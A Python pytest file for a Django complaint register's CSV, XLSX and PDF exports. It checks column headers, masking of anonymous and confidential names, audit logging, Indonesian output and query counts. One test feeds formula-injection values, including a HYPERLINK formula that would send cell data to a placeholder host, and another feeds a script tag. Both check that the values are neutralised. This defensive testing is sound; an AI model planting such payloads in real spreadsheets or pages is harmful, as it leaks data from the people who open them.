"""The agenda book's downloads: CSV, XLSX and PDF from the same filters, masked, safe in a
spreadsheet, in Bahasa Indonesia, audited."""

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from pypdf import PdfReader

from aduan.audit.models import AuditEvent
from aduan.complaints.models import Complaint
from aduan.papers import agenda_views
from aduan.papers.models import Letterhead
from aduan.papers.tests.agenda_setup import (
    NOVEMBER,
    answered,
    at,
    book_url,
    content_of,
    page_text,
    pdf_text,
    received,
)

HEADERS = [
    "Nomor agenda",
    "Diterima (tanggal, jam)",
    "Saluran",
    "Pelapor",
    "Kategori",
    "Perihal",
    "Langkah sekarang / disposisi",
    "Tanggal dijawab",
    "Nomor surat jawaban",
]


@pytest.fixture
def register(sop_version, category, hadi):
    """Sari's open complaint, an anonymous one, a confidential one answered with a letter."""
    return [
        received(at(3, 8, 15), category, name="Sari Wulandari", subject="KTP-el hilang"),
        received(at(4), category, name="", is_anonymous=True, subject="Pungutan liar"),
        answered(
            received(at(5), category, name="Dewi Lestari", is_confidential=True, subject="KK"),
            at(12, 14, 30),
            signer=hadi,
            number="470/007/PGD/XI/2026",
        ),
    ]


def csv_rows(response) -> list[list[str]]:
    content = content_of(response)
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(content_of(response)))["Buku agenda"]


def test_the_csv_file_holds_the_period_rows_under_the_book_header(client, budi, register):
    client.force_login(budi)
    response = client.get(book_url(**NOVEMBER, format="csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="buku-agenda-2026-11-01-2026-11-30.csv"'
    )
    rows = csv_rows(response)
    assert rows[0] == HEADERS
    assert [row[0] for row in rows[1:]] == [c.agenda_number for c in register]
    sari, anonymous, confidential = rows[1:]
    assert sari[1:4] == ["2026-11-03 08:15", "Situs web", "Sari Wulandari"]
    assert sari[7:] == ["", ""]
    assert anonymous[3] == "Anonim"
    assert confidential[3] == "Rahasia"
    assert confidential[6:] == ["Dijawab", "2026-11-12", "470/007/PGD/XI/2026"]
    assert "Dewi Lestari" not in content_of(client.get(book_url(**NOVEMBER, format="csv"))).decode()


def test_the_xlsx_file_opens_with_a_frozen_bold_header_and_real_dates(client, budi, register):
    client.force_login(budi)
    response = client.get(book_url(**NOVEMBER, format="xlsx"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="buku-agenda-2026-11-01-2026-11-30.xlsx"'
    )
    sheet = xlsx_sheet(response)
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert [row[0] for row in rows[1:]] == [c.agenda_number for c in register]
    sari, anonymous, confidential = rows[1:]
    assert sari[1] == dt.datetime(2026, 11, 3, 8, 15)
    assert sari[2:4] == ("Situs web", "Sari Wulandari")
    assert anonymous[3] == "Anonim"
    assert confidential[3] == "Rahasia"
    assert confidential[6:] == ("Dijawab", dt.datetime(2026, 11, 12), "470/007/PGD/XI/2026")
    assert sheet["B2"].is_date
    values = {str(cell) for row in rows for cell in row}
    assert "Dewi Lestari" not in values


@pytest.mark.parametrize(
    "subject",
    [
        '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
        "+62 812 3456 7890",
        "-1+1",
        "@SUM(1,2)",
        "\tTab di depan",
        "\rCR di depan",
    ],
)
def test_text_a_spreadsheet_would_run_is_written_as_text(
    client, budi, sop_version, category, subject
):
    received(at(2), category, subject=subject, name="=1+2")
    client.force_login(budi)

    row = csv_rows(client.get(book_url(**NOVEMBER, format="csv")))[1]
    assert row[5] == "'" + subject
    assert row[3] == "'=1+2"

    sheet = xlsx_sheet(client.get(book_url(**NOVEMBER, format="xlsx")))
    for cell, typed in ((sheet["F2"], subject), (sheet["D2"], "=1+2")):
        assert cell.data_type == "s"
        # openpyxl shows a carriage return as XML escapes it; Excel shows the character.
        assert cell.value.replace("_x000D_", "\r") == "'" + typed


def test_the_pdf_prints_the_letterhead_the_period_and_every_agenda_number(client, budi, register):
    letterhead = Letterhead.current()
    letterhead.address = "Jl. Contoh No. 1, Kota Mojokerto"
    letterhead.save()
    client.force_login(budi)
    response = client.get(book_url(**NOVEMBER, status="", format="pdf"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        'attachment; filename="buku-agenda-2026-11-01-2026-11-30.pdf"'
    )
    text = pdf_text(response.content)
    assert "DINAS KEPENDUDUKAN DAN PENCATATAN SIPIL" in text
    assert "Jl. Contoh No. 1, Kota Mojokerto" in text
    assert "BUKU AGENDA PENGADUAN" in text
    assert "Periode 1 November 2026 sampai dengan 30 November 2026" in text
    for complaint in register:
        assert complaint.agenda_number in text
    assert "Anonim" in text and "Rahasia" in text and "Sari Wulandari" in text
    assert "Dewi Lestari" not in text
    assert "470/007/PGD/XI/2026" in text
    assert "1 / 1" in text  # page numbers
    page = PdfReader(io.BytesIO(response.content)).pages[0]
    assert page.mediabox.width > page.mediabox.height  # A4 landscape


def test_html_typed_in_a_subject_prints_as_text_in_the_pdf(client, budi, sop_version, category):
    received(at(2), category, subject="<script>alert(1)</script><b>tebal</b>")
    client.force_login(budi)
    text = pdf_text(client.get(book_url(**NOVEMBER, format="pdf")).content)
    assert "<script>alert(1)</script><b>tebal</b>" in text.replace(" ", "")  # lines joined


def test_above_the_pdf_limit_the_page_says_to_narrow_the_period_or_take_a_spreadsheet(
    client, budi, register, monkeypatch
):
    monkeypatch.setattr(agenda_views, "PDF_ROW_CAP", 2)
    client.force_login(budi)
    response = client.get(book_url(**NOVEMBER, format="pdf"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    text = page_text(response)
    assert "Pilihan ini berisi 3 pengaduan, sedangkan PDF dibuat untuk paling banyak 2" in text
    assert "Persempit periode" in text
    assert not AuditEvent.objects.filter(action="agenda.exported").exists()
    narrowed = client.get(book_url(**NOVEMBER, saluran="web", status="open", format="pdf"))
    assert narrowed["Content-Type"] == "application/pdf"


def test_the_downloads_carry_the_filters_of_the_page(client, budi, register):
    client.force_login(budi)
    markup = client.get(book_url(**NOVEMBER, status="answered")).content.decode()
    for kind in ("csv", "xlsx", "pdf"):
        assert (
            f"?dari=2026-11-01&amp;sampai=2026-11-30&amp;status=answered&amp;format={kind}"
            in markup
        )
    rows = csv_rows(client.get(book_url(**NOVEMBER, status="answered", format="csv")))
    assert [row[0] for row in rows[1:]] == [register[2].agenda_number]


def test_each_download_is_audited_with_its_format_filters_and_row_count(client, budi, register):
    client.force_login(budi)
    content_of(client.get(book_url(**NOVEMBER, status="open", format="csv")))
    content_of(client.get(book_url(**NOVEMBER, format="xlsx")))
    events = AuditEvent.objects.filter(action="agenda.exported").order_by("id")
    assert [(e.actor_id, e.data["format"], e.data["rows"]) for e in events] == [
        (budi.pk, "csv", 2),
        (budi.pk, "xlsx", 3),
    ]
    assert events[0].data["filters"] == {**NOVEMBER, "status": "open"}
    client.get(book_url(**NOVEMBER))  # looking at the page is not an export
    assert AuditEvent.objects.filter(action="agenda.exported").count() == 2


def test_the_files_are_in_bahasa_indonesia_whatever_the_interface_language(client, budi, register):
    client.force_login(budi)
    client.cookies["django_language"] = "en"
    page = page_text(client.get(book_url(**NOVEMBER)))
    assert "Website" in page  # the interface is in English...
    rows = csv_rows(client.get(book_url(**NOVEMBER, format="csv")))
    assert rows[0] == HEADERS  # ...the file is not
    assert rows[1][2] == "Situs web"
    assert rows[3][6] == "Dijawab"
    sheet = xlsx_sheet(client.get(book_url(**NOVEMBER, format="xlsx")))
    assert sheet["C2"].value == "Situs web"


def _queries(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
        content_of(response)
    assert response.status_code == 200
    return len(queries)


def test_the_files_are_read_in_the_same_few_queries_for_3_or_30_complaints(
    client, budi, sop_version, category, hadi
):
    client.force_login(budi)
    for n in range(3):
        received(at(2 + n), category, name=f"Warga {n}", channel=Complaint.Channel.EMAIL)
    few = {kind: _queries(client, book_url(**NOVEMBER, format=kind)) for kind in ("csv", "xlsx")}
    for n in range(27):
        complaint = received(at(2 + n % 25, 10), category, is_anonymous=n % 2 == 0)
        if n % 3 == 0:
            answered(complaint, at(28), signer=hadi, number=f"470/{n:03d}/PGD/XI/2026")
    many = {kind: _queries(client, book_url(**NOVEMBER, format=kind)) for kind in ("csv", "xlsx")}
    assert few == many
    assert max(many.values()) <= 15
